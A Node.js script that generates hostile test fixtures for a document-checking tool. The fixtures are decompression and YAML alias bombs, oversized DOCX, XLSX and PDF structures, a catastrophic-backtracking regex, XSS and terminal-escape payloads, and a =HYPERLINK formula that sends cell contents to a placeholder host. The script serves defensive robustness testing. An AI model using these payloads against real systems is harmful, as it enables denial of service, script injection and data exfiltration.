#!/usr/bin/env node
// Deterministic bad-input fixtures that need no external tool (no fonts, no LibreOffice):
//
//   node scripts/make-bad-fixtures.mjs [OUT_DIR]        (default fixtures/bad)
//
// Writes:
//   pages-2000.pdf               a valid 2,000-page notice PDF: huating-2022.txt set in 30-character
//                                lines, 28 lines a page, the pages cycling through the notice, each
//                                with a "— N —" page number. The font is STSong-Light, NOT embedded
//                                (UniGB-UCS2-H; pdf.js needs its CMaps), so the file is small: the
//                                distinct page bodies are shared content streams, each page adds only
//                                its page-number stream. Same bytes on every run (no dates, no /ID).
//   rules-yaml-error.yaml        a rule pack with a YAML syntax error (an unclosed flow sequence)
//   rules-unknown-kind.yaml      a rule pack with a rule of an unknown kind
//   rules-catastrophic-regex.yaml  a valid pack whose pattern (a+)+$ would backtrack exponentially on a
//                                backtracking engine; gkcheck runs patterns on RE2 (linear time)
//   catastrophic.txt             a notice-like text with a long run of "a" and no match, for that pack
//   rules-lookaround.yaml        a pack whose pattern uses lookahead (rejected: RE2 has none)
//
//
// Hostile inputs of issue 15 (each made from a real notice, small on disk, huge or slow when read):
//   docx-gridspan.docx           huaiyin-2022.docx with one table cell's w:gridSpan = 2147483647
//   docx-zip-bomb.docx           huaiyin-2022.docx whose document.xml is one real paragraph repeated
//                                to 150 MB (~700 KB on disk)
//   docx-space-bomb.docx         huaiyin-2022.docx with 1 GB of spaces between two paragraphs (~1 MB)
//   xlsx-xfd1048576.xlsx         huaiyin-2022.tasks.xlsx plus one cell at XFD1048576 (the last cell)
//   xlsx-gr100000.xlsx           … plus one cell at GR100000
//   xlsx-sheet-merge.xlsx        … plus one merged range A1:XFD1048576
//   pdf-nested-xobjects.pdf      a page that draws form X1, X1 draws X2 ten times, … X9 draws text:
//                                10^9 text draws from 3 KB
//   pdf-huge-stream.pdf          huating-2022's first page with 200 MB of path operators after the
//                                text in its content stream (~200 KB on disk)
// Made at test time (cheap, or too big to keep): hostileTexts() (a line of 60,000 digits, of
// 一十百, of punctuation; U+202E before each 一、; ANSI/OSC escapes; HTML in headings; =HYPERLINK
// cells; %PDF- in the first KB of a text), makePdf(5000 | 20000 pages), and the YAML alias bomb.
//
// Not made here: fuzz-stray-rejection.pdf is input #9411 of `node scripts/fuzz.mjs --dump 9411 9412 DIR`
// (seed 20220601): zhaoyuan-2021.pdf with one 4 KB overwrite; pdf.js leaves unhandled rejections.
//
// Exported: makePdf(pages) for tests and the bench, which build their own PDFs in a temp dir.
import { readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { crc32, createDeflate, createDeflateRaw, deflateRawSync, deflateSync, inflateRawSync } from 'node:zlib';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..');

/** UCS-2 big-endian hex of a string (BMP only; others become 〓). */
function ucs2hex(s) {
  let out = '';
  for (const ch of s) {
    const cp = ch.codePointAt(0);
    out += (cp > 0xffff ? 0x3013 : cp).toString(16).padStart(4, '0');
  }
  return out;
}

/** The notice text as page bodies: lines of at most `width` characters, `perPage` lines a page. */
export function pageBodies(text, width = 30, perPage = 28) {
  const lines = [];
  for (const para of text.split(/\r?\n/)) {
    const t = para.trim();
    if (!t) continue;
    const chars = [...t];
    for (let i = 0; i < chars.length; i += width) lines.push(chars.slice(i, i + width).join(''));
  }
  const pages = [];
  for (let i = 0; i < lines.length; i += perPage) pages.push(lines.slice(i, i + perPage));
  return pages;
}

/**
 * A PDF of `pageCount` A4 pages cycling through `bodies` (arrays of lines), with page numbers.
 * Returns a Buffer. Objects: 1 catalog, 2 pages, 3 Type0 font, 4 CIDFont, 5 descriptor,
 * 6.. shared bodies, then for each page: the page and its page-number stream.
 */
export function makePdf(pageCount, bodies) {
  const objs = []; // index = object number - 1; each a Buffer
  const add = (buf) => {
    objs.push(Buffer.isBuffer(buf) ? buf : Buffer.from(buf, 'latin1'));
    return objs.length;
  };
  const stream = (content) => {
    const data = deflateSync(Buffer.from(content, 'latin1'), { level: 9 });
    return Buffer.concat([Buffer.from(`<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
  };
  add('<< /Type /Catalog /Pages 2 0 R >>');
  add(''); // pages: filled in below
  add('<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [4 0 R] >>');
  add('<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor 5 0 R /DW 1000 >>');
  add('<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 752 /Descent -271 /CapHeight 737 /StemV 58 >>');
  const bodyIds = bodies.map((lines) => {
    const ops = ['BT', '/F1 15 Tf', '22 TL', '72 770 Td'];
    lines.forEach((l, i) => ops.push(`${i ? 'T* ' : ''}<${ucs2hex(l)}> Tj`));
    ops.push('ET');
    return add(stream(ops.join('\n')));
  });
  const kids = [];
  for (let p = 1; p <= pageCount; p++) {
    const num = `— ${p} —`;
    const numId = add(stream(`BT\n/F1 14 Tf\n${(297.6 - num.length * 3.5).toFixed(1)} 40 Td\n<${ucs2hex(num)}> Tj\nET`));
    const body = bodyIds[(p - 1) % bodyIds.length];
    kids.push(add(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Resources << /Font << /F1 3 0 R >> >> /Contents [${body} 0 R ${numId} 0 R] >>`));
  }
  objs[1] = Buffer.from(`<< /Type /Pages /Count ${pageCount} /Kids [${kids.map((k) => `${k} 0 R`).join(' ')}] >>`, 'latin1');

  const parts = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0].length;
  const offsets = [];
  objs.forEach((buf, i) => {
    const head = Buffer.from(`${i + 1} 0 obj\n`, 'latin1');
    const tail = Buffer.from('\nendobj\n', 'latin1');
    offsets.push(offset);
    parts.push(head, buf, tail);
    offset += head.length + buf.length + tail.length;
  });
  const xref = [`xref\n0 ${objs.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

/** The 2,000-page notice PDF. */
export function make2000Pages() {
  const text = readFileSync(join(ROOT, 'fixtures/huating-2022.txt'), 'utf8');
  return makePdf(2000, pageBodies(text));
}

export const RULE_FILES = {
  'rules-yaml-error.yaml': `# A rule pack with a YAML syntax error: the flow sequence opened on line 7 is never closed.
pack: broken-yaml
rules:
  - id: needs-publicity
    kind: require
    severity: warning
    keywords: [政务公开, 信息公开
    message:
      zh: 缺少政务公开
      en: no 政务公开
`,
  'rules-unknown-kind.yaml': `# A rule pack with a rule of a kind gkcheck does not know (kinds: require, limit, forbid, frequency, code).
pack: unknown-kind
rules:
  - id: must-sparkle
    kind: sparkle
    severity: warning
`,
  'rules-catastrophic-regex.yaml': `# (a+)+$ backtracks exponentially on a backtracking engine when a long run of "a" is not at
# the end; gkcheck runs rule patterns on RE2 (re2js), whose time is linear in the text.
pack: catastrophic-regex
rules:
  - id: no-runaway-a
    kind: forbid
    severity: warning
    confidence: derived
    source: test fixture
    description:
      zh: 不得出现以一串 a 结尾的段落（测试灾难性回溯）
      en: no paragraph may end in a run of a (catastrophic-backtracking test)
    patterns:
      - '(a+)+$'
    message:
      zh: 出现以 a 结尾的文字
      en: text ends in a run of a
    cases:
      valid:
        - |
          一、总体要求
          （一）深化政务公开。aaaa!
      invalid:
        - |
          一、总体要求
          （一）深化政务公开。aaaa
`,
  'rules-lookaround.yaml': `# A pattern with lookahead: RE2 has none, so the pack is rejected when it is loaded.
pack: lookaround
rules:
  - id: no-lookahead
    kind: forbid
    severity: warning
    confidence: derived
    source: test fixture
    description:
      zh: 测试环视
      en: lookaround test
    patterns:
      - '政务(?=公开)'
    message:
      zh: 测试
      en: test
    cases:
      valid:
        - |
          一、总体要求
          （一）深化信息发布。
      invalid:
        - |
          一、总体要求
          （一）深化政务公开。
`,
};

/** A short notice followed by 30,000 × "a" and a "!": (a+)+$ never matches, the worst case. */
export function catastrophicText() {
  return `2022年政务公开工作要点\n一、总体要求\n（一）深化政务公开。全面推进决策、执行、管理、服务、结果公开。\n${'a'.repeat(30000)}!\n`;
}

// ---- ZIP (DOCX/XLSX) ---------------------------------------------------------------------

/** ZIP entries (name → uncompressed bytes) from the central directory; stored or deflated only. */
export function readZip(b) {
  const dv = new DataView(b.buffer, b.byteOffset, b.byteLength);
  let eocd = b.length - 22;
  while (eocd >= 0 && dv.getUint32(eocd, true) !== 0x06054b50) eocd--;
  const count = dv.getUint16(eocd + 10, true);
  let p = dv.getUint32(eocd + 16, true);
  const entries = [];
  for (let k = 0; k < count; k++) {
    const method = dv.getUint16(p + 10, true);
    const size = dv.getUint32(p + 20, true);
    const nameLen = dv.getUint16(p + 28, true);
    const extra = dv.getUint16(p + 30, true) + dv.getUint16(p + 32, true);
    const local = dv.getUint32(p + 42, true);
    const name = new TextDecoder().decode(b.subarray(p + 46, p + 46 + nameLen));
    const start = local + 30 + dv.getUint16(local + 26, true) + dv.getUint16(local + 28, true);
    const raw = b.subarray(start, start + size);
    entries.push({ name, data: method === 8 ? new Uint8Array(inflateRawSync(raw)) : raw.slice() });
    p += 46 + nameLen + extra;
  }
  return entries;
}

/** Deflate a stream of chunks (raw for ZIP, zlib for PDF) without holding the whole input. */
async function deflateChunks(chunks, raw = true) {
  const z = raw ? createDeflateRaw({ level: 9 }) : createDeflate({ level: 9 });
  const out = [];
  z.on('data', (d) => out.push(d));
  const ended = new Promise((r) => z.on('end', r));
  let crc = 0;
  let size = 0;
  for (const c of chunks) {
    crc = crc32(c, crc);
    size += c.length;
    if (!z.write(c)) await new Promise((r) => z.once('drain', r));
  }
  z.end();
  await ended;
  return { comp: Buffer.concat(out), crc, size };
}

/** A ZIP of entries { name, data } or { name, comp, crc, size } (already deflated). */
export function writeZip(entries) {
  const parts = [];
  const central = [];
  let offset = 0;
  for (const e of entries) {
    const nameBytes = Buffer.from(e.name, 'utf8');
    const comp = e.comp ?? deflateRawSync(e.data, { level: 9 });
    const crc = e.crc ?? crc32(e.data);
    const size = e.size ?? e.data.length;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(crc >>> 0, 14);
    local.writeUInt32LE(comp.length, 18);
    local.writeUInt32LE(size, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const cd = Buffer.alloc(46);
    cd.writeUInt32LE(0x02014b50, 0);
    cd.writeUInt16LE(20, 4);
    cd.writeUInt16LE(20, 6);
    cd.writeUInt16LE(8, 10);
    cd.writeUInt32LE(crc >>> 0, 16);
    cd.writeUInt32LE(comp.length, 20);
    cd.writeUInt32LE(size, 24);
    cd.writeUInt16LE(nameBytes.length, 28);
    cd.writeUInt32LE(offset, 42);
    parts.push(local, nameBytes, comp);
    central.push(cd, nameBytes);
    offset += 30 + nameBytes.length + comp.length;
  }
  const cdSize = central.reduce((n, p) => n + p.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cdSize, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...parts, ...central, end]);
}

const text = (e) => new TextDecoder().decode(e.data);
const withEntry = (entries, name, data) => entries.map((e) => (e.name === name ? { name, ...data } : e));

/** huaiyin-2022.docx with one w:gridSpan set to 2^31 - 1. */
export function docxGridSpan() {
  const entries = readZip(readFileSync(join(ROOT, 'fixtures/huaiyin-2022.docx')));
  const doc = text(entries.find((e) => e.name === 'word/document.xml'));
  const xml = doc.replace('<w:gridSpan w:val="2"/>', '<w:gridSpan w:val="2147483647"/>');
  if (xml === doc) throw new Error('no gridSpan in huaiyin-2022.docx');
  return writeZip(withEntry(entries, 'word/document.xml', { data: Buffer.from(xml) }));
}

/** huaiyin-2022.docx whose body is one real paragraph repeated to `mb` MB. */
export async function docxZipBomb(mb = 300) {
  const entries = readZip(readFileSync(join(ROOT, 'fixtures/huaiyin-2022.docx')));
  const doc = text(entries.find((e) => e.name === 'word/document.xml'));
  const bodyAt = doc.indexOf('<w:body>') + '<w:body>'.length;
  const para = doc.slice(bodyAt).match(/<w:p[ >][\s\S]*?<\/w:p>/g).find((p) => /政务公开/.test(p) && p.length < 4000);
  const block = Buffer.from(para.repeat(Math.ceil(65536 / para.length)));
  const times = Math.ceil((mb * 1024 * 1024) / block.length);
  function* chunks() {
    yield Buffer.from(doc.slice(0, bodyAt));
    for (let i = 0; i < times; i++) yield block;
    yield Buffer.from(doc.slice(bodyAt));
  }
  return writeZip(withEntry(entries, 'word/document.xml', await deflateChunks(chunks())));
}

/** huaiyin-2022.docx with `mb` MB of spaces between its first two paragraphs. */
export async function docxSpaceBomb(mb = 1024) {
  const entries = readZip(readFileSync(join(ROOT, 'fixtures/huaiyin-2022.docx')));
  const doc = text(entries.find((e) => e.name === 'word/document.xml'));
  const at = doc.indexOf('</w:p>') + '</w:p>'.length;
  const spaces = Buffer.alloc(1024 * 1024, 0x20);
  function* chunks() {
    yield Buffer.from(doc.slice(0, at));
    for (let i = 0; i < mb; i++) yield spaces;
    yield Buffer.from(doc.slice(at));
  }
  return writeZip(withEntry(entries, 'word/document.xml', await deflateChunks(chunks())));
}

/** huaiyin-2022.tasks.xlsx with its sheet changed by `edit(xml)`. */
function xlsxEdit(edit) {
  const entries = readZip(readFileSync(join(ROOT, 'fixtures/huaiyin-2022.tasks.xlsx')));
  const sheet = text(entries.find((e) => e.name === 'xl/worksheets/sheet1.xml'));
  const xml = edit(sheet);
  if (xml === sheet) throw new Error('xlsx edit changed nothing');
  return writeZip(withEntry(entries, 'xl/worksheets/sheet1.xml', { data: Buffer.from(xml) }));
}

/** One more cell, at `ref` (e.g. XFD1048576), in a row of its own; the dimension says so too. */
export function xlsxFarCell(ref) {
  const row = ref.replace(/^[A-Z]+/, '');
  return xlsxEdit((x) =>
    x.replace(/<dimension ref="[^"]*"\/>/, `<dimension ref="A1:${ref}"/>`).replace('</sheetData>', `<row r="${row}"><c r="${ref}" t="inlineStr"><is><t>备注</t></is></c></row></sheetData>`),
  );
}

/** One more merged range over the whole sheet. */
export function xlsxHugeMerge() {
  return xlsxEdit((x) => x.replace(/<mergeCells count="(\d+)">/, (_m, n) => `<mergeCells count="${Number(n) + 1}"><mergeCell ref="A70:XFD1048576"/>`));
}

// ---- PDF (hostile) ------------------------------------------------------------------------

/** A PDF from numbered objects (1 = catalog); `streams` maps object number → { dict, data } (data already encoded). */
function pdfFrom(objs) {
  const parts = [Buffer.from('%PDF-1.4\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let offset = parts[0].length;
  const offsets = [];
  objs.forEach((buf, i) => {
    const head = Buffer.from(`${i + 1} 0 obj\n`, 'latin1');
    const tail = Buffer.from('\nendobj\n', 'latin1');
    offsets.push(offset);
    parts.push(head, buf, tail);
    offset += head.length + buf.length + tail.length;
  });
  const xref = [`xref\n0 ${objs.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objs.length + 1} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`, 'latin1'));
  return Buffer.concat(parts);
}

const FONT_OBJS = [
  '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [4 0 R] >>',
  '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor 5 0 R /DW 1000 >>',
  '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 752 /Descent -271 /CapHeight 737 /StemV 58 >>',
];

function textOps(lines) {
  const ops = ['BT', '/F1 15 Tf', '22 TL', '72 770 Td'];
  lines.forEach((l, i) => ops.push(`${i ? 'T* ' : ''}<${ucs2hex(l)}> Tj`));
  ops.push('ET');
  return ops.join('\n');
}

const flate = (content) => {
  const data = deflateSync(Buffer.isBuffer(content) ? content : Buffer.from(content, 'latin1'), { level: 9 });
  return Buffer.concat([Buffer.from(`<< /Length ${data.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
};

/** Page 1 of huating-2022 as text, then form X1; Xk draws X(k+1) ten times; X`depth` is a line of text. */
export function pdfNestedXObjects(depth = 9) {
  const bodies = pageBodies(readFileSync(join(ROOT, 'fixtures/huating-2022.txt'), 'utf8'));
  // objects: 1 catalog, 2 pages, 3-5 font, 6 page, 7 content, 8.. forms X1..Xdepth
  const first = 8;
  const objs = [Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'), Buffer.from('<< /Type /Pages /Count 1 /Kids [6 0 R] >>'), ...FONT_OBJS.map((s) => Buffer.from(s))];
  objs.push(Buffer.from(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Resources << /Font << /F1 3 0 R >> /XObject << /X1 ${first} 0 R >> >> /Contents 7 0 R >>`));
  objs.push(flate(`${textOps(bodies[0])}\nq /X1 Do Q`));
  for (let k = 1; k <= depth; k++) {
    const content = k < depth ? Array.from({ length: 10 }, () => `q /X${k + 1} Do Q`).join('\n') : textOps(['政务公开']);
    const res = k < depth ? `/XObject << /X${k + 1} ${first + k} 0 R >>` : '/Font << /F1 3 0 R >>';
    const data = deflateSync(Buffer.from(content, 'latin1'));
    objs.push(Buffer.concat([Buffer.from(`<< /Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << ${res} >> /Length ${data.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]));
  }
  return pdfFrom(objs);
}

/** Page 1 of huating-2022 as text, then `mb` MB of path operators in the same content stream. */
export async function pdfHugeStream(mb = 200) {
  const bodies = pageBodies(readFileSync(join(ROOT, 'fixtures/huating-2022.txt'), 'utf8'));
  const block = Buffer.from('10 10 m 20 20 l S\n'.repeat(4096), 'latin1');
  const times = Math.ceil((mb * 1024 * 1024) / block.length);
  function* chunks() {
    yield Buffer.from(textOps(bodies[0]) + '\n', 'latin1');
    for (let i = 0; i < times; i++) yield block;
  }
  const { comp } = await deflateChunks(chunks(), false);
  const objs = [Buffer.from('<< /Type /Catalog /Pages 2 0 R >>'), Buffer.from('<< /Type /Pages /Count 1 /Kids [6 0 R] >>'), ...FONT_OBJS.map((s) => Buffer.from(s))];
  objs.push(Buffer.from('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595.28 841.89] /Resources << /Font << /F1 3 0 R >> >> /Contents 7 0 R >>'));
  objs.push(Buffer.concat([Buffer.from(`<< /Length ${comp.length} /Filter /FlateDecode >>\nstream\n`, 'latin1'), comp, Buffer.from('\nendstream', 'latin1')]));
  return pdfFrom(objs);
}

// ---- texts and YAML made at test time -------------------------------------------------------

const HEADING = /^[一二三四五六七八九十]+、/;

/** Hostile variants of a real notice text (qixia-2022.txt), by name. */
export function hostileTexts() {
  const base = readFileSync(join(ROOT, 'fixtures/qixia-2022.txt'), 'utf8');
  const lines = base.split('\n');
  const at = Math.floor(lines.length / 2);
  const insert = (line) => [...lines.slice(0, at), line, ...lines.slice(at)].join('\n');
  return {
    'digits-60k.txt': insert('2'.repeat(60_000)),
    'numerals-60k.txt': insert('一十百'.repeat(20_000)),
    'punct-60k.txt': insert('，。、；：'.repeat(12_000)),
    'bidi-headings.txt': lines.map((l) => (HEADING.test(l) ? `\u202e${l}` : l)).join('\n'),
    'zero-width-headings.txt': lines.map((l) => (HEADING.test(l) ? `\u200b\u2060${l}` : l)).join('\n'),
    'ansi-escapes.txt': lines.map((l) => (HEADING.test(l) ? `\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]8;;http://example.invalid\x07${l}\x1b]8;;\x07` : l)).join('\n'),
    'html-headings.txt': lines.map((l) => (/^（[一二三四五六七八九十]+）/.test(l) ? l.replace(/^(（[一二三四五六七八九十]+）)/, '$1<script>alert(1)</script><img src=x onerror=alert(2)>') : l)).join('\n'),
    'formula-cells.txt': lines.map((l) => (/^（[一二三四五六七八九十]+）/.test(l) ? l.replace(/^(（[一二三四五六七八九十]+）[^。]*。)/, '$1\n=HYPERLINK("http://example.invalid/?d="&A1,"点击")+1；@SUM(1+1)；-2+3') : l)).join('\n'),
    'pdf-marker.txt': `说明：本文由 %PDF-1.7 文件转换而来。\n${base}`,
  };
}

/** A YAML "billion laughs": nine levels of nine aliases (9^9 nodes when expanded). */
export function yamlAliasBomb() {
  const rows = ['a: &a ["政务公开","政务公开","政务公开","政务公开","政务公开","政务公开","政务公开","政务公开","政务公开"]'];
  const names = 'abcdefghi';
  for (let k = 1; k < names.length; k++) rows.push(`${names[k]}: &${names[k]} [${Array(9).fill(`*${names[k - 1]}`).join(',')}]`);
  return `pack: alias-bomb\n${rows.join('\n')}\nrules: []\n`;
}

/** The committed hostile binaries: name → bytes (or a promise of them). */
export const HOSTILE_FILES = {
  'docx-gridspan.docx': docxGridSpan,
  'docx-zip-bomb.docx': () => docxZipBomb(150),
  'docx-space-bomb.docx': () => docxSpaceBomb(1024),
  'xlsx-xfd1048576.xlsx': () => xlsxFarCell('XFD1048576'),
  'xlsx-gr100000.xlsx': () => xlsxFarCell('GR100000'),
  'xlsx-sheet-merge.xlsx': xlsxHugeMerge,
  'pdf-nested-xobjects.pdf': () => pdfNestedXObjects(9),
  'pdf-huge-stream.pdf': () => pdfHugeStream(200),
};

if (process.argv[1] && resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const out = resolve(process.argv[2] ?? join(ROOT, 'fixtures/bad'));
  mkdirSync(out, { recursive: true });
  for (const [name, make] of Object.entries(HOSTILE_FILES)) {
    const bytes = await make();
    writeFileSync(join(out, name), bytes);
    console.log(`${name}  ${(bytes.length / 1024).toFixed(0)} KB`);
  }
  const pdf = make2000Pages();
  writeFileSync(join(out, 'pages-2000.pdf'), pdf);
  console.log(`pages-2000.pdf  ${(pdf.length / 1024 / 1024).toFixed(2)} MB`);
  for (const [name, text] of Object.entries(RULE_FILES)) writeFileSync(join(out, name), text);
  writeFileSync(join(out, 'catastrophic.txt'), catastrophicText());
  console.log(Object.keys(RULE_FILES).concat('catastrophic.txt').join('\n'));
}
